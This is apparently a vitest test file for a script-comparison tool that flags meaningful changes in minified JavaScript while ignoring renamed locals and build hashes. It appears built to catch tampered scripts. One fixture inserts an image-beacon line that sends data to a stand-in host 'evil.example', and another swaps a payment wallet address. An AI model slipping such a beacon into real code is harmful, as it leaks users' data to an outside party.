import { expect, test } from "vitest";
import { compareScript } from "./compare-script.ts";

function differences(before: string, after: string): string[] {
  return compareScript(before, after)!.found.map(({ before: old, after: now }) => `${old} → ${now}`);
}

const source = `// greets
function greet(person, times) {
  const words = ["hello", person.name];
  for (let i = 0; i < times; i++) { console.log(words.join(" ")); }
  return { person, words };
}
(function () { const secret = 5; greet({ name: 'Ada' }, secret); })();
`;

test("ignores layout, comments and quotes", () => {
  const minified = source.replace("// greets\n", "").replace(/\n\s*/g, "").replaceAll("'", '"');
  expect(differences(source, minified)).toEqual([]);
});

test("ignores local names that a minifier chose anew, in every nested scope", () => {
  expect(
    differences(
      "(function(e,t){var n=e.map(function(e){return e.id+t});return n})(window.list,1);",
      "(function(a,b){var c=a.map(function(t){return t.id+b});return c})(window.list,1);",
    ),
  ).toEqual([]);
  expect(
    differences(
      "const f=(e)=>{try{e()}catch(t){console.log(t)}};export{f}",
      "const g=(o)=>{try{o()}catch(n){console.log(n)}};export{g as f}",
    ),
  ).not.toEqual([]);
});

test("reports changed globals and properties, and the use of another variable", () => {
  expect(differences("(e=>{fetch(e)})(1)", "(e=>{alert(e)})(1)")).toHaveLength(1);
  expect(differences("(e=>{x(e.good)})(1)", "(e=>{x(e.evil)})(1)")).toHaveLength(1);
  expect(differences("((a,b)=>{x(a,b,a)})(1,2)", "((a,b)=>{x(a,b,b)})(1,2)")).toHaveLength(1);
  expect(differences("(a=>{(b=>{x(a)})(2)})(1)", "(a=>{(b=>{x(b)})(2)})(1)")).toHaveLength(1);
  expect(differences("var top1=1;", "var top2=1;")).toHaveLength(1);
});

test("shows the inserted statement", () => {
  expect(
    differences(
      source,
      source.replace("return {", "new Image().src = '//evil.example/?' + person;\n  return {"),
    ),
  ).toEqual(["null → new Image().src = '//evil.example/?' + person;"]);
});

test("ignores build file names and a loader's hash table, but reports a changed wallet address or host", () => {
  expect(
    differences(
      'load("chunk-3f9a1c2b.js");var m={12:"a1b2c3d4e5",7:"00ff00ff00"}',
      'load("chunk-99aa1c2b.js");var m={12:"b1b2c3d4e5",7:"10ff00ff00"}',
    ),
  ).toEqual([]);
  expect(
    differences('pay("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")', 'pay("1BoatSLRHtKNngkdXEeobR76b53LETtpyT")'),
  ).toHaveLength(1);
  expect(differences('load("https://a.example/x.js")', 'load("https://b.example/x.js")')).toHaveLength(1);
});

test("returns undefined for code that doesn't parse, and handles extreme nesting", () => {
  expect(compareScript("'", "1")).toBeUndefined();
  expect(compareScript("(".repeat(50_000), "1")).toBeDefined();
  expect(compareScript(`x=${"1+".repeat(20_000)}1`, `x=${"1+".repeat(20_000)}2`)!.found).toHaveLength(1);
});
